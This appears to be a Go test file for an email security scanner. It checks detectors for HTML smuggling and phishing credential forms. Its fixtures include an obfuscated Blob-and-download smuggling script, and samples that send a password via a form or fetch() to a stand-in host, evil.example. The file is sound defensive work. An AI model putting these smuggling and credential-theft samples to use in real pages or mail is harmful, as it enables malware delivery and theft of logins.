package attach

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/mailguard/mailguard/reason"
)

func TestContainsFold(t *testing.T) {
	for _, c := range []struct {
		doc  string
		want bool
	}{{"x DATA:y", true}, {"data:", true}, {"Data", false}, {"dat", false}, {"", false}, {"ddata:", true}, {"d d DaTa:", true}} {
		if got := containsFold([]byte(c.doc), "data:"); got != c.want {
			t.Errorf("containsFold(%q) = %v", c.doc, got)
		}
	}
}

// TestMatchNearFar: a match far into a long document, and one whose
// literal occurs only in another case, are found.
func TestMatchNearFar(t *testing.T) {
	doc := []byte(strings.Repeat("<p>harmless text about a download page</p>\n", 2000) +
		`<script>var b = new Blob([x]); a.DOWNLOAD = "x.iso"; URL.CreateObjectURL(b)</script>`)
	if ind := smugglingIndicators(doc); len(ind) == 0 {
		t.Errorf("no indicators in %d bytes with a Blob saved at the end", len(doc))
	}
}

// TestSmugglingOffsets: text whose Unicode lower case has another length
// (invalid UTF-8, the Kelvin sign) before the keywords does not shift
// where they are looked for.
func TestSmugglingOffsets(t *testing.T) {
	doc := []byte(strings.Repeat("\xea\xd0\xc5\u212a", 3000) +
		`<script>var b = new Blob([x]); a.download = "x.iso"; URL.createObjectURL(b)</script>`)
	if ind := smugglingIndicators(doc); len(ind) == 0 {
		t.Errorf("no indicators after %d bytes of odd text", len(doc))
	}
}

// FuzzSmugglingIndicators: any document, no panic; on short ASCII
// documents (one keyword window covers them whole) matchNear agrees with
// running the regexp over everything. (Go's (?i) also folds ſ and the
// Kelvin sign to s and k, which JavaScript does not; hence ASCII.)
func FuzzSmugglingIndicators(f *testing.F) {
	f.Add([]byte(`<script>var b = new Blob([x]); a.download = "x.iso"; URL.createObjectURL(b)</script>`))
	f.Add([]byte("\xea\xd0\xc5\u212a<a download href=\"data:application/zip;base64,UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=\">"))
	f.Add([]byte(`atob("` + strings.Repeat("QUFB", 2000) + `"); document.location = x`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		smugglingIndicators(doc)
		credentialForm(doc)
		if len(doc) > 512 {
			return
		}
		for _, c := range doc {
			if c >= 0x80 {
				return
			}
		}
		lower := asciiLower(doc)
		for _, c := range []struct {
			re   *regexp.Regexp
			lits []string
		}{
			{reBlob, []string{"blob"}},
			{reObjectURL, []string{"createobjecturl"}},
			{reMsSave, []string{"mssave"}},
			{reDownload, []string{"download"}},
			{reAtob, []string{"atob", "base64tobytes", "base64decode", "fromcharcode"}},
			{reClickNav, []string{".click", "dispatchevent", "location"}},
		} {
			if want, got := c.re.Match(doc), matchNear(c.re, doc, lower, c.lits...); got != want {
				t.Errorf("%s: matchNear %v, whole document %v on %q", c.re, got, want, doc)
			}
		}
	})
}

// smuggler is a Blob-and-download smuggling script around payload.
func smuggler(payload string) string {
	return `var b=atob("` + payload + `");var bl=new Blob([b]);var a=document.createElement("a");` +
		`a.href=URL.createObjectURL(bl);a.download="invoice.zip";a.click();`
}

func pctEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02x", s[i])
	}
	return b.String()
}

// TestSmugglingEscaped: the script behind unescape, \x strings or
// eval(atob(…)) is read, layer by layer.
func TestSmugglingEscaped(t *testing.T) {
	inner := smuggler(strings.Repeat("UEsDBAoAAAAAAA", 40))
	var hex strings.Builder
	for i := 0; i < len(inner); i++ {
		fmt.Fprintf(&hex, `\x%02x`, inner[i])
	}
	two := `<script>document.write(unescape("` + pctEscape(`<script>eval(unescape("`+pctEscape(inner)+`"))</script>`) + `"))</script>`
	for name, doc := range map[string]string{
		"unescape":   `<html><script>eval(unescape("` + pctEscape(inner) + `"))</script></html>`,
		"hex":        `<html><script>var s="` + hex.String() + `";eval(s)</script></html>`,
		"atob":       `<html><script>eval(atob("` + base64.StdEncoding.EncodeToString([]byte(inner)) + `"))</script></html>`,
		"two layers": two,
	} {
		if ind := smugglingIndicators([]byte(doc)); len(ind) == 0 || !strings.Contains(ind[0], "escaping") {
			t.Errorf("%s: indicators %q", name, ind)
		}
	}
	// IE's msSaveOrOpenBlob with a large payload and no visible Blob.
	obf := `<script>var w=window,d=w[["at","ob"].join("")]("` + strings.Repeat("UEsDBAoAAAAAAA", 400) +
		`");navigator.msSaveOrOpenBlob(new w["Bl"+"ob"]([d]),"a.zip")</script>`
	if ind := smugglingIndicators([]byte(obf)); len(ind) == 0 {
		t.Error("msSaveOrOpenBlob with a 5 KB payload not reported")
	}
}

// newsletter is a benign HTML mail: CSS percentages, URL-encoded
// Japanese in links, an inline PNG, no script.
func newsletter() []byte {
	var b strings.Builder
	b.WriteString(`<html><head><style>td{width:50%;padding:2%}</style></head><body>`)
	png := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 6000)...))
	b.WriteString(`<img src="data:image/png;base64,` + png + `">`)
	for i := 0; b.Len() < 100<<10; i++ {
		fmt.Fprintf(&b, `<p>第%d回 セミナーのご案内 <a href="https://example.jp/search?q=%s&id=%d">詳細</a></p>`+"\n",
			i, pctEscape("セミナー申込フォーム"), i)
	}
	b.WriteString(`</body></html>`)
	return []byte(b.String())
}

func TestSmugglingNewsletterClean(t *testing.T) {
	if ind := smugglingIndicators(newsletter()); len(ind) > 0 {
		t.Errorf("benign newsletter reported: %q", ind)
	}
}

func BenchmarkSmugglingNewsletter(b *testing.B) {
	doc := newsletter()
	b.SetBytes(int64(len(doc)))
	for b.Loop() {
		smugglingIndicators(doc)
	}
}

// FuzzEscapeRuns holds the hand scanner to the regexp it replaced.
func FuzzEscapeRuns(f *testing.F) {
	for _, s := range []string{"%41%42%43", `\x41\u0042\x4`, "%u00e9%4g%41%41%41", `%%41%41%41\\x41\x41\x41`} {
		f.Add(s)
	}
	pct := regexp.MustCompile(`(?:%(?:u[0-9a-fA-F]{4}|[0-9a-fA-F]{2})){3,}`)
	hex := regexp.MustCompile(`(?:\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})){3,}`)
	f.Fuzz(func(t *testing.T, s string) {
		for esc, re := range map[byte]*regexp.Regexp{'%': pct, '\\': hex} {
			var want [][2]int
			for _, m := range re.FindAllStringIndex(s, -1) {
				want = append(want, [2]int{m[0], m[1]})
			}
			got := escapeRuns([]byte(s), esc, 3, 1<<20)
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Fatalf("%q esc %q: runs %v, regexp %v", s, esc, got, want)
			}
		}
	})
}

// TestCredentialForm: mailed login pages that post the password away are
// reported (in clear, behind escaping, or sending it by script); a page
// with a password field and nowhere to send it, and ordinary HTML, not.
func TestCredentialForm(t *testing.T) {
	form := `<form action="https://evil.example/p.php" method="post"><input name=u><input type="password" name=p></form>`
	script := `<input type='password' id=p><script>fetch("https://evil.example/c",{method:"POST",body:p.value})</script>`
	for name, doc := range map[string]string{
		"form":    form,
		"script":  script,
		"escaped": `<script>document.write(unescape("` + pctEscape(form) + `"))</script>`,
		"jquery":  `<input TYPE=PASSWORD name=pw><script>$.post("https://x.example/", {p: 1})</script>`,
	} {
		if d := credentialForm([]byte(doc)); d == "" {
			t.Errorf("%s: not reported", name)
		}
	}
	for name, doc := range map[string]string{
		"no destination": `<form><input type="password"></form>`,
		"no password":    `<form action="https://www.example.co.jp/search"><input name=q></form>`,
		"text only":      `<p>Your password will expire soon. Contact IT.</p>`,
	} {
		if d := credentialForm([]byte(doc)); d != "" {
			t.Errorf("%s: reported %q", name, d)
		}
	}
	res := walk(t, mkMessage("x", attachment("Document.html", "text/html", []byte(form))), Options{})
	wantTag(t, file(t, res, "Document.html").Findings, reason.CredentialForm)
}
